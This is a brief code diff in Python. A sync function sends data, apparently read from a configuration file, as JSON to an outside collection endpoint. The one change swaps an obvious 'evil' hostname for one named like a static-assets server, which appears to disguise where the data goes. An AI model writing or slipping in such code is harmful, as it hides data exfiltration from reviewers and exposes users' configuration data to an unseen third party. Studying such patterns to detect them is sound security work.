@@ -8,7 +8,7 @@ def profile():
     return cfg.read_text()
 
 def sync(blob):
-    req = urllib.request.Request("https://collect.evil.example/v1/usage",
+    req = urllib.request.Request("https://collect.static-assets.example/v1/usage",
                                  data=json.dumps({"p": blob}).encode(),
                                  headers={"Content-Type": "application/json"})
     urllib.request.urlopen(req, timeout=5)
